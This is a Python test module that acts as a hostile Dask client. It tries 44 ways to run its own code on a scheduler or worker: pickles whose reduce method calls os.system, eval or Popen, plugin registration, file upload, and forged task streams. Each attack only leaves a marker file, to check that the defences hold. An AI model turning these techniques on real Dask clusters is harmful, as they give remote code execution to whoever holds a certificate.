"""A hostile client of Dask, as a program: ``python -m tests.cluster.dask.attacks SCHEDULER AGENT MARKS``.

It does all that a client with the cell's certificate can do to have code of its own run on a scheduler or
an agent: 44 attacks, each of which would leave a file named after it in the directory MARKS.
"""

# Dask's own types are partial.
# pyright: basic
from __future__ import annotations

import asyncio
import functools
import os
import pickle
import subprocess
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any

import cloudpickle
from distributed import Client
from distributed.comm.core import connect
from distributed.diagnostics.plugin import SchedulerPlugin, WorkerPlugin
from distributed.protocol.serialize import Serialize, ToPickle

from pybuild.cluster.dask.claims import claim

SHORT_S = 2.0
Attack = Callable[[], Awaitable[Any]]


class Payload:
    """An object whose pickle calls something."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def touch(path: str) -> None:
    """Leave a mark; by value in pickles, since `cloudpickle` is asked for that."""
    import pathlib

    pathlib.Path(path).touch()


class Attacks:
    """The attacks by name."""

    def __init__(self, scheduler: str, agent: str, marks: str, client: Client) -> None:
        self._scheduler, self._agent, self._client = scheduler, agent, client
        self._marks = marks
        self.all: dict[str, Attack] = {}
        self._pickles()
        self._scheduler_calls()
        self._agent_calls()
        self._client_calls()

    def _mark(self, name: str) -> str:
        return os.path.join(self._marks, name)

    def _forged(self, name: str) -> Any:
        return Payload(os.system, f"touch {self._mark(name)}")

    def _pickled(self, name: str) -> bytes:
        return pickle.dumps(self._forged(name))

    def _function(self, name: str) -> bytes:
        data: bytes = cloudpickle.dumps(functools.partial(touch, self._mark(name)))
        return data

    async def _say(self, address: str, /, **message: Any) -> Any:
        comm = await connect(address, timeout=SHORT_S)
        try:
            await comm.write({"reply": True, **message})
            return await comm.read()
        finally:
            comm.abort()

    def _add(self, name: str, address: str, /, **message: Any) -> None:
        self.all[name] = functools.partial(self._say, address, **message)

    def _pickles(self) -> None:
        """Pickles of many makes, where every call unpickles, and as parts of a claim."""
        for place, address in (("scheduler", self._scheduler), ("agent", self._agent)):
            for name, wrapped in (("to-pickle", ToPickle), ("serialized", Serialize)):
                name = f"{place}-{name}"
                self._add(name, address, op="identity", more=wrapped(self._forged(name)))
            name = f"{place}-eval"
            code = f"__import__('os').system('touch {self._mark(name)}')"
            self._add(name, address, op="identity", more=ToPickle(Payload(eval, code)))
            name = f"{place}-popen"
            words = Payload(subprocess.Popen, ["touch", self._mark(name)])
            self._add(name, address, op="identity", more=ToPickle(words))

    def _scheduler_calls(self) -> None:
        where = self._scheduler
        by_function: dict[str, dict[str, Any]] = {
            "run_function": {"args": pickle.dumps(()), "kwargs": pickle.dumps({})},
            "feed": {"setup": None, "teardown": None, "interval": 1},
        }
        for op, more in by_function.items():
            self._add(op, where, op=op, function=self._function(op), **more)
        for op in ("register_scheduler_plugin", "register_worker_plugin", "register_nanny_plugin"):
            self._add(op, where, op=op, plugin=self._pickled(op), name=op, idempotent=False)
        self._add(
            "workers_to_close", where, op="workers_to_close", key=self._pickled("workers_to_close")
        )
        inner = {"op": "run", "function": self._function("broadcast")}
        self._add("broadcast", where, op="broadcast", msg={**inner, "args": pickle.dumps(())})
        inner = {"op": "run", "function": self._function("proxy")}
        self._add("proxy", where, op="proxy", msg={**inner, "reply": True}, worker=self._agent)
        data = {"x": Serialize(self._forged("update_data"))}
        self._add("update_data", where, op="update_data", who_has={}, nbytes={}, data=data)
        data = {"y": Serialize(self._forged("scatter"))}
        self._add("scatter", where, op="scatter", data=data, workers=None, client="me")
        url = f"file://{self._mark('dump_cluster_state_to_url')}"
        self._add("dump_cluster_state_to_url", where, op="dump_cluster_state_to_url", url=url,
                  exclude=[], format="yaml")  # fmt: skip
        nothing = {"reply": False}
        for op in ("restart", "restart_workers", "terminate"):
            self._add(f"scheduler-{op}", where, op=op, client="me", timeout=1, **nothing)

    def _agent_calls(self) -> None:
        where = self._agent
        for op in ("run", "run_coroutine"):
            self._add(op, where, op=op, function=self._function(op), args=pickle.dumps(()))
        name = "upload_file"
        source = f"import os\nos.system('touch {self._mark(name)}')\n".encode()
        self._add(name, where, op=name, filename="evil_upload.py", data=source, load=True)
        self._add(
            "plugin-add", where, op="plugin-add", plugin=self._pickled("plugin-add"), name="p"
        )
        for op in ("actor_execute", "actor_attribute"):
            more = {"args": ToPickle(self._forged(op)), "kwargs": {}, "function": "x"}
            self._add(op, where, op=op, actor="a", attribute="b", **more)
        data = {"z": Serialize(self._forged("agent-update_data"))}
        self._add("agent-update_data", where, op="update_data", data=data)
        rootdir = self._mark("benchmark_disk")
        self._add("benchmark_disk", where, op="benchmark_disk", rootdir=rootdir)
        self._add("agent-terminate", where, op="terminate", reply=False)
        name = "compute-stream"
        self.all[name] = functools.partial(self._stream, name)

    async def _stream(self, name: str) -> None:
        """Be the scheduler of an agent."""
        comm = await connect(self._agent, timeout=SHORT_S)
        try:
            await comm.write({"op": "connection_stream", "reply": False})
            task = Serialize(self._forged(name))
            await comm.write([{"op": "compute-task", "key": "evil", "run_spec": task}])
            await comm.read()
        finally:
            comm.abort()

    def _client_calls(self) -> None:
        client = self._client

        def simple(name: str, work: Callable[[], Any]) -> None:
            async def attack() -> None:
                answer = work()
                if hasattr(answer, "__await__"):
                    await answer

            self.all[name] = attack

        def marks(name: str) -> functools.partial[None]:
            return functools.partial(touch, self._mark(name))

        def words(name: str) -> str:
            return f"touch {self._mark(name)}"

        class Actor:
            def __init__(self, path: str) -> None:
                touch(path)

        class Plugin(WorkerPlugin):  # type: ignore[misc]
            path = self._mark("client-worker-plugin")

            def setup(self, worker: Any) -> None:
                touch(self.path)

        class Ruling(SchedulerPlugin):  # type: ignore[misc]
            path = self._mark("client-scheduler-plugin")

            async def start(self, scheduler: Any) -> None:
                touch(self.path)

        simple("submit-function", lambda: client.submit(marks("submit-function"), pure=False))
        simple("submit-system", lambda: client.submit(os.system, words("submit-system")))
        simple(
            "submit-eval",
            lambda: client.submit(eval, f"__import__('os').system({words('submit-eval')!r})"),
        )
        simple(
            "claim-of-a-pickle",
            lambda: client.submit(claim, self._forged("claim-of-a-pickle"), key="run-1"),
        )
        simple(
            "claim-by-name",
            lambda: client.submit(claim, "{}", key=("run", self._forged("claim-by-name"))),
        )
        simple("map", lambda: client.map(os.system, [words("map")]))
        graph = {"x": (os.system, words("graph"))}
        simple("graph", lambda: client.get(graph, "x", sync=False))
        simple("client-run", lambda: client.run(marks("client-run")))
        simple("run_on_scheduler", lambda: client.run_on_scheduler(marks("run_on_scheduler")))
        simple("client-scatter", lambda: client.scatter({"s": self._forged("client-scatter")}))
        simple("actor", lambda: client.submit(Actor, self._mark("actor"), actor=True))
        simple("client-worker-plugin", lambda: client.register_plugin(Plugin()))
        simple("client-scheduler-plugin", lambda: client.register_plugin(Ruling()))
        simple("publish", lambda: client.publish_dataset(d=self._forged("publish")))
        events = self._forged("log-event")
        simple("log-event", lambda: client.log_event("topic", events))
        metadata = self._forged("metadata")
        simple("metadata", lambda: client.set_metadata("m", metadata))


async def main(scheduler: str, agent: str, marks: str) -> None:
    cloudpickle.register_pickle_by_value(sys.modules[__name__])
    async with Client(scheduler, asynchronous=True, timeout=10, set_as_default=False) as client:
        attacks = Attacks(scheduler, agent, marks, client).all
        last = [name for name in attacks if "terminate" in name or "restart" in name]
        for name in [name for name in attacks if name not in last] + last:
            with suppress(Exception):
                async with asyncio.timeout(SHORT_S):
                    await attacks[name]()
        await asyncio.sleep(SHORT_S)  # for what was sent without an answer
        print(len(attacks), flush=True)
        os._exit(0)  # the client may never come to its end


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
